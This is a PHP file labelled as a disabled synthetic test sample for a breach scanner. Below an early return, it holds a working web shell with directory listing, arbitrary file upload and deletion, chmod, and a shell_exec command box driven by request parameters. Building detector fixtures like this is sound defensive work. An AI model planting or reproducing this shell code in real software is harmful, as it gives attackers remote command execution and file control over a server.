<?php
// synthetic test sample for breachscan: PHP file manager with upload, directory listing,
// delete, chmod and command box in one file (WSO/b374k-like layout). Disabled.
return;
$d = isset($_GET['d']) ? $_GET['d'] : getcwd();
echo php_uname() . ' ' . disk_free_space($d);
foreach (scandir($d) as $f) echo htmlspecialchars($f) . "<br>";
if (!empty($_FILES['up'])) move_uploaded_file($_FILES['up']['tmp_name'], $d . '/' . $_FILES['up']['name']);
if (isset($_GET['rm'])) unlink($d . '/' . $_GET['rm']);
if (isset($_POST['mode'])) chmod($_POST['f'], octdec($_POST['mode']));
if (isset($_POST['c'])) echo shell_exec($_POST['c']);
